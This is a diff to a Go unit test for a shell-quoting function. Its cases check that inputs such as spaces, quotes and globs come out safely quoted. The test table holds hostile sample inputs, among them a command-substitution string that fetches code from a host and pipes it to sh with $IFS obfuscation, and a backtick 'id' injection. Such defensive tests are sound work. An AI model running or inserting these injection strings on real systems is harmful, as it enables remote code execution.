@@ -11,14 +11,14 @@ import (
 
 func TestShell(t *testing.T) {
 	tests := map[string]struct{ in, want string }{
-		"an ARN":          {"arn:aws:iam::222222222222:user/a/b+c=d,e.f@g_h-i", "arn:aws:iam::222222222222:user/a/b+c=d,e.f@g_h-i"},
+		"an ARN":          {"arn:aws:iam::2:user/a/b+c=d,e.f@g_h-i", "arn:aws:iam::2:user/a/b+c=d,e.f@g_h-i"},
 		"nothing":         {"", "''"},
 		"space":           {"a b", "'a b'"},
 		"substitution":    {"user/$(curl$IFS$19e.io|sh)/bob", "'user/$(curl$IFS$19e.io|sh)/bob'"},
 		"backticks":       {"a`id`", "'a`id`'"},
 		"quote":           {"a'b", `'a'\''b'`},
 		"double quote":    {`a"b`, `'a"b'`},
-		"option":          {"-rf", "'-rf'"},
+		"option":          {"-rf", "-rf"}, // quoted it would be the same option
 		"home":            {"~root", "'~root'"},
 		"pattern":         {"a*[b]", "'a*[b]'"},
 		"history":         {"a!!", "'a!!'"},
